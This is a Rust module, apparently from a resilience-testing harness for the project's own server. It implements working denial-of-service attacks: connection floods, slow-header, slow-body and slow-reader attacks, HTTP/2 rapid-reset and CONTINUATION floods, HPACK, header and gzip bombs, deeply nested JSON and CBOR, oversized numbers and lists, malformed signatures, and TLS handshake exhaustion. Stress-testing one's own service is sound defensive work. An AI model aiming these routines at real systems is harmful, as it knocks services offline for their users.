//! What attackers do. Each attack is a task with so many connections at most, until told to stop.

use std::future::Future;
use std::io::Write;
use std::pin::Pin;
use std::sync::atomic::Ordering;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::Field;
use super::clients::{self, Client, request};
use super::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame, head, hello, literal,
};
use super::hello::client_hello;

type Deed = Pin<Box<dyn Future<Output = ()> + Send>>;

/// One way to attack.
pub struct Attack {
    pub name: &'static str,
    pub(super) run: fn(Field) -> Deed,
}

pub(super) const QUIET: Attack = Attack { name: "(quiet)", run: |_| Box::pin(async {}) };

macro_rules! attacks {
    ($($name:literal $connections:literal $deed:ident;)*) => {
        /// All attacks, in the order in which they are played.
        pub const ATTACKS: &[Attack] = &[$(Attack {
            name: $name,
            run: |field| Box::pin(many(field, $connections, |field| Box::pin($deed(field)))),
        }),*];
    };
}

attacks! {
    // name, attackers, deed
    "connection-flood" 64 connection_flood;
    "slow-headers" 400 slow_headers;
    "slow-body" 200 slow_body;
    "slow-reader" 60 slow_reader;
    "rapid-reset" 6 rapid_reset;
    "continuation-flood" 6 continuation_flood;
    "header-bomb" 6 header_bomb;
    "hpack-bomb" 6 hpack_bomb;
    "gzip-bomb" 4 gzip_bomb;
    "deep-json" 4 deep_json;
    "deep-cbor" 4 deep_cbor;
    "huge-numbers" 4 huge_numbers;
    "long-lists" 4 long_lists;
    "garbage-signatures" 4 garbage_signatures;
    "tls-handshakes" 6 tls_handshakes;
    "tls-to-plain" 6 tls_to_plain;
}

/// A pause between attempts: attackers share the machine with whom they attack.
const BREATH: Duration = Duration::from_millis(5);
/// Connections that one flooder holds.
const HELD_MAX: usize = 40;

/// Runs `deed` again and again, `attackers` times side by side.
async fn many(field: Field, attackers: usize, deed: fn(Field) -> Deed) {
    let attacker = || {
        let field = field.clone();
        tokio::spawn(async move {
            while !field.stop.is_set() {
                deed(field.clone()).await;
                tokio::time::sleep(BREATH).await;
            }
        })
    };
    let attackers: Vec<_> = (0..attackers).map(|_| attacker()).collect();
    for attacker in attackers {
        let _ = attacker.await;
    }
}

impl Field {
    async fn connect(&self) -> Option<TcpStream> {
        let connect = TcpStream::connect(self.address);
        let stream = tokio::time::timeout(Duration::from_secs(2), connect).await;
        stream.ok()?.ok()
    }

    fn did(&self, count: u64) {
        self.deeds.fetch_add(count, Ordering::Relaxed);
    }

    /// Writes; `false` when the server has had enough.
    async fn send(&self, stream: &mut TcpStream, bytes: &[u8]) -> bool {
        let written = tokio::time::timeout(Duration::from_secs(2), stream.write_all(bytes)).await;
        self.did(1);
        matches!(written, Ok(Ok(())))
    }

    /// Waits in small steps until the time is over or the attack is.
    async fn wait(&self, time: Duration) {
        let step = Duration::from_millis(50);
        let mut waited = Duration::ZERO;
        while waited < time && !self.stop.is_set() {
            tokio::time::sleep(step).await;
            waited += step;
        }
    }

    /// Sends a request and takes its answer, whatever it is.
    async fn ask(&self, request: &[u8]) {
        let Ok(mut client) = Client::connect(self.address).await else { return };
        while !self.stop.is_set() {
            if !client.send(request).await {
                return;
            }
            self.did(1);
            let answer = tokio::time::timeout(Duration::from_secs(5), client.answer()).await;
            if !matches!(answer, Ok(Ok(_))) {
                return;
            }
            tokio::time::sleep(BREATH).await;
        }
    }
}

async fn connection_flood(field: Field) {
    let mut held = Vec::new();
    while held.len() < HELD_MAX && !field.stop.is_set() {
        held.extend(field.connect().await);
        field.did(1);
    }
    field.wait(Duration::from_millis(500)).await;
}

async fn slow_headers(field: Field) {
    let Some(mut stream) = field.connect().await else { return };
    for byte in request("ListStreams", b"{}", "").chunks(1) {
        if field.stop.is_set() || !field.send(&mut stream, byte).await {
            return;
        }
        field.wait(Duration::from_millis(500)).await;
    }
}

async fn slow_body(field: Field) {
    let Some(mut stream) = field.connect().await else { return };
    let full = request("PutRecords", b"", "");
    let head =
        String::from_utf8_lossy(&full).replace("Content-Length: 0", "Content-Length: 16000000");
    let start = [head.as_bytes(), &[b' '; 70_000]].concat();
    if !field.send(&mut stream, &start).await {
        return;
    }
    while !field.stop.is_set() && field.send(&mut stream, b" ").await {
        field.wait(Duration::from_millis(500)).await;
    }
}

async fn slow_reader(field: Field) {
    let Ok(iterator) = clients::heavy_iterator(field.address).await else {
        return field.wait(Duration::from_millis(500)).await;
    };
    let Some(mut stream) = field.connect().await else { return };
    let body = json!({"ShardIterator": iterator}).to_string();
    let ask = request("GetRecords", body.as_bytes(), "");
    if !field.send(&mut stream, &ask.repeat(4)).await {
        return;
    }
    let mut byte = [0];
    while !field.stop.is_set() {
        let read = tokio::time::timeout(Duration::from_secs(1), stream.read(&mut byte)).await;
        if matches!(read, Ok(Ok(0) | Err(_))) {
            return;
        }
        field.wait(Duration::from_millis(200)).await;
    }
}

async fn rapid_reset(field: Field) {
    let Some(mut stream) = field.connect().await else { return };
    if !field.send(&mut stream, &hello()).await {
        return;
    }
    let (head, mut id) = (head(), 1);
    while !field.stop.is_set() {
        let mut burst = Vec::new();
        for _ in 0..100 {
            burst.extend(frame(HEADERS, END_HEADERS, id, &head));
            burst.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
            id += 2;
        }
        if !field.send(&mut stream, &burst).await {
            return;
        }
        field.did(99);
        tokio::time::sleep(BREATH).await;
    }
}

async fn continuation_flood(field: Field) {
    let Some(mut stream) = field.connect().await else { return };
    let start = [hello(), frame(HEADERS, END_STREAM, 1, &head())].concat();
    if !field.send(&mut stream, &start).await {
        return;
    }
    let part = frame(CONTINUATION, 0, 1, &literal(0, "x-fill", &"x".repeat(100)).repeat(20));
    while !field.stop.is_set() && field.send(&mut stream, &part.repeat(20)).await {
        field.did(19);
        tokio::time::sleep(BREATH).await;
    }
}

async fn header_bomb(field: Field) {
    let large = format!("X-Large: {}\r\n", "x".repeat(1 << 20));
    let many: String = (0..5000).map(|i| format!("X-{i}: x\r\n")).collect();
    for headers in [large, many] {
        field.ask(&request("ListStreams", b"{}", &headers)).await;
    }
}

async fn hpack_bomb(field: Field) {
    let Some(mut stream) = field.connect().await else { return };
    // One header of 4,000 bytes enters the table; each further byte names it again.
    let mut block = head();
    block.extend(literal(0x40, "x-bomb", &"x".repeat(3900)));
    block.extend([0xbe].repeat(15_000));
    let mut bytes = hello();
    for i in 0..10 {
        let mut parts = block.chunks(16_000).peekable();
        let first = parts.next().expect("not empty");
        bytes.extend(frame(HEADERS, END_STREAM, 1 + 2 * i, first));
        while let Some(part) = parts.next() {
            let flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
            bytes.extend(frame(CONTINUATION, flags, 1 + 2 * i, part));
        }
    }
    if field.send(&mut stream, &bytes).await {
        field.wait(Duration::from_millis(200)).await;
    }
}

async fn gzip_bomb(field: Field) {
    // 64 MiB of spaces in some 64 KiB.
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..64 {
        gzip.write_all(&vec![b' '; 1 << 20]).expect("memory takes all");
    }
    let body = gzip.finish().expect("memory takes all");
    let bomb = request("PutMetricData", &body, "Content-Encoding: gzip\r\n");
    let text = String::from_utf8_lossy(&bomb[..bomb.len() - body.len()]).into_owned();
    let head = text.replace("Kinesis_20131202", "GraniteServiceVersion20100801");
    field.ask(&[head.as_bytes(), &body].concat()).await;
}

async fn deep_json(field: Field) {
    let deep = [b"{\"Records\":".as_slice(), &b"[".repeat(1 << 20)].concat();
    let objects = b"{\"a\":".repeat(200_000);
    for body in [deep, objects] {
        field.ask_once(&request("PutRecords", &body, "")).await;
    }
}

async fn deep_cbor(field: Field) {
    for part in [&[0x81][..], &[0x9f], &[0xa1, 0x61, b'a'], &[0xc1]] {
        let request = request("PutRecords", &part.repeat((1 << 20) / part.len()), "");
        let end = request.windows(4).position(|four| four == b"\r\n\r\n").expect("a head");
        let head = String::from_utf8_lossy(&request[..end]).replace("amz-json-1.1", "amz-cbor-1.1");
        field.ask_once(&[head.as_bytes(), &request[end..]].concat()).await;
    }
    // A length of 2^63 bytes, and an array of 2^32 items, in nine bytes.
    for body in [&b"\x5b\x7f\xff\xff\xff\xff\xff\xff\xff"[..], b"\x9b\0\0\0\x01\0\0\0\0"] {
        let request = request("PutRecords", body, "");
        field.ask_once(&request).await;
    }
}

async fn huge_numbers(field: Field) {
    let digits = "9".repeat(1 << 20);
    for number in
        [&digits, "1e999999999", "-1e-999999999", &format!("0.{digits}"), &format!("1e{digits}")]
    {
        let body = format!("{{\"ShardIterator\":\"x\",\"Limit\":{number}}}");
        field.ask_once(&request("GetRecords", body.as_bytes(), "")).await;
    }
}

async fn long_lists(field: Field) {
    let many = |item: &str| {
        let items = item.repeat((8 << 20) / item.len());
        format!("{{\"StreamName\":\"x\",\"Records\":[{items}{{}}]}}")
    };
    for item in ["{},", "{\"Data\":\"\"},"] {
        field.ask_once(&request("PutRecords", many(item).as_bytes(), "")).await;
    }
}

async fn garbage_signatures(field: Field) {
    let good = String::from_utf8(request("ListStreams", b"{}", "")).expect("text");
    let long = "x".repeat(50_000);
    for signature in [
        "AWS4-HMAC-SHA256 Credential=/////, SignedHeaders=;;;;, Signature=",
        "AWS4-HMAC-SHA256 Credential=a/b/c/d/e, SignedHeaders=host, Signature=\u{1}",
        "AWS4-ECDSA-P256-SHA256 Credential=x",
        &format!("AWS4-HMAC-SHA256 Credential={long}"),
        &format!(
            "AWS4-HMAC-SHA256 Credential=a/20260101/r/kinesis/aws4_request, SignedHeaders={}, Signature=0",
            "a;".repeat(20_000)
        ),
    ] {
        let request = good.replace(clients::AUTHORIZATION, signature);
        field.ask_once(request.as_bytes()).await;
    }
}

/// The server signs, the client goes: a key exchange for two hundred bytes.
async fn tls_handshakes(field: Field) {
    let to_tls = Field { address: field.tls, ..field.clone() };
    for _ in 0..20 {
        let Some(mut stream) = to_tls.connect().await else { return };
        if field.stop.is_set() || !field.send(&mut stream, &client_hello()).await {
            return;
        }
        let mut answer = [0; 1024];
        let read = stream.read(&mut answer);
        let _ = tokio::time::timeout(Duration::from_secs(1), read).await;
    }
    // And one that begins and never goes on.
    let Some(mut stream) = to_tls.connect().await else { return };
    field.send(&mut stream, &client_hello()[..40]).await;
    field.wait(Duration::from_millis(50)).await;
}

async fn tls_to_plain(field: Field) {
    let Some(mut stream) = field.connect().await else { return };
    if field.send(&mut stream, &client_hello()).await {
        field.wait(Duration::from_millis(50)).await;
    }
}

impl Field {
    async fn ask_once(&self, request: &[u8]) {
        let Ok(mut client) = Client::connect(self.address).await else { return };
        if self.stop.is_set() || !client.send(request).await {
            return;
        }
        self.did(1);
        let _ = tokio::time::timeout(Duration::from_secs(5), client.answer()).await;
    }
}
